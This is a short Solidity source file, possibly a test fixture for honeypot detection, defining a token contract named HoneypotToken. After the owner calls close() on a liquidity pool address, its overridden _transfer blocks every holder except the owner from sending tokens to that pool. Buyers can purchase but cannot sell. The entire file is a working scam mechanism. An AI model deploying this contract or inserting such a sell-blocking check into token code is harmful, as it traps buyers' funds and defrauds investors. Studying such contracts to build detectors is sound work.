// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Token} from "./Token.sol";

/// Anyone can buy; once the owner has closed the gate, only the owner can send tokens into the pool, that is, sell.
contract HoneypotToken is Token {
    address public owner;
    address public gate;

    constructor(string memory name_, string memory symbol_, uint256 supply) Token(name_, symbol_, supply) {
        owner = msg.sender;
    }

    function close(address pool) external {
        require(msg.sender == owner, "not the owner");
        gate = pool;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != gate || from == owner || gate == address(0), "transfer failed");
        super._transfer(from, to, value);
    }
}
